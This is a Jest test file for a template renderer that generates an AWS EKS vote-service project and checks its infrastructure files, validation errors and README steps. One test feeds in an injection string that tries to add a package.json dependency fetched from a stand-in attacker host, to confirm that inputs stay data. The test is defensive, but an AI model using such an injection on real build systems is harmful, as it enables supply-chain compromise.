import fs from 'node:fs';
import path from 'node:path';
import { renderVoteTemplate } from './__testUtils__/renderTemplate';

const values = {
  name: 'ballot',
  owner: 'group:default/vote-team',
  voteOptions: ['pizza', 'salad'],
  awsAccountId: '123456789012',
  awsRegion: 'eu-west-3',
  iac: 'terraform',
  credentials: 'irsa',
  clusterName: 'vote-demo',
  oidcIssuer:
    'https://oidc.eks.eu-west-3.amazonaws.com/id/5C5F3E2B7A1D4E6F8A9B0C1D2E3F4A5B',
  namespace: 'ballot',
  repoUrl: 'github.com?owner=acme&repo=ballot',
};

const render = (overrides: Record<string, unknown>) =>
  renderVoteTemplate({ ...values, ...overrides });

describe('yarn template:render', () => {
  it('renders the vote-service template with the real actions', () => {
    const result = render({});
    expect(result.status).toBe(0);
    const files = [
      'infra/terraform/main.tf',
      'k8s/deployment.yaml',
      'src/server.ts',
      'catalog-info.yaml',
    ];
    for (const file of files)
      expect(fs.existsSync(path.join(result.output, file))).toBe(true);
    expect(
      fs.readFileSync(
        path.join(result.output, 'infra/terraform/main.tf'),
        'utf8',
      ),
    ).toContain('"system:serviceaccount:ballot:ballot"');
  }, 120_000);

  it.each([
    [
      { awsAccountId: '1234' },
      /invalid values: .*awsAccountId does not match pattern/,
    ],
    [{ voteOptions: ['up', 'up'] }, /invalid values: .*voteOptions/],
    [{ namespace: 'kube-system' }, /invalid values: .*namespace/],
  ])(
    'exits 1 naming the field and the rule for %j, and writes nothing',
    (bad, message) => {
      const result = render(bad);
      expect(result.status).toBe(1);
      expect(result.stderr).toMatch(message);
      expect(fs.existsSync(result.output)).toBe(false);
    },
    120_000,
  );

  it('takes every value as data: a description with quotes and JSON stays a string of package.json', () => {
    const description =
      'Votes "on lunch"", "dependencies": {"evil": "https://attacker.example/x.tgz"}, "x": "${{ secrets }}';
    const result = render({ description });
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    const pkg = JSON.parse(
      fs.readFileSync(path.join(result.output, 'package.json'), 'utf8'),
    );
    expect(pkg.description).toBe(description);
    expect(Object.keys(pkg.dependencies)).toEqual(['@aws-sdk/client-dynamodb']);
  }, 120_000);

  it.each([
    ['terraform', 'irsa'],
    ['ack', 'pod-identity'],
  ])(
    'renders %s with %s, an application secret and an ALB',
    (iac, credentials) => {
      const result = render({
        iac,
        credentials,
        secrets: true,
        ingress: true,
        ingressCertificateArn:
          'arn:aws:acm:eu-west-3:123456789012:certificate/0f2d7c1e-4b5a-4c3d-9e8f-7a6b5c4d3e2f',
      });
      expect(result.stderr).not.toMatch(/do not parse/);
      expect(result.status).toBe(0);
      for (const file of [
        `infra/${iac}/secret-provider-class.yaml`,
        'k8s/ingress.yaml',
        'k8s/networkpolicy.yaml',
      ])
        expect(fs.existsSync(path.join(result.output, file))).toBe(true);
      // Its README is its flavour's: how to apply, create the secret, tear down.
      const readme = fs.readFileSync(
        path.join(result.output, 'README.md'),
        'utf8',
      );
      const flavourSteps: Record<string, RegExp[]> = {
        terraform: [
          /terraform apply/,
          /aws secretsmanager put-secret-value --secret-id ballot-app/,
          /terraform destroy/,
        ],
        ack: [
          /kubectl apply -k infra\/ack\//,
          /aws secretsmanager create-secret --name ballot-app/,
          /aws eks associate-access-policy .*\n?.*AmazonEKSEditPolicy/,
          /kubectl delete -k infra\/ack\//,
        ],
      };
      for (const step of flavourSteps[iac]) expect(readme).toMatch(step);
      expect(readme).not.toMatch(/cdk deploy/);
    },
    120_000,
  );

  it.each([
    ['terraform', 'pod-identity'],
    ['cdk', 'irsa'],
    ['cdk', 'pod-identity'],
    ['ack', 'irsa'],
    ['ack', 'pod-identity'],
  ])(
    'renders %s with %s, every generated JSON, YAML, HCL and TypeScript file parsing',
    (iac, credentials) => {
      // template:render itself refuses output whose files do not parse.
      const result = render({ iac, credentials });
      expect(result.stderr).not.toMatch(/do not parse/);
      expect(result.status).toBe(0);
      expect(fs.existsSync(path.join(result.output, `infra/${iac}`))).toBe(
        true,
      );
    },
    120_000,
  );
});
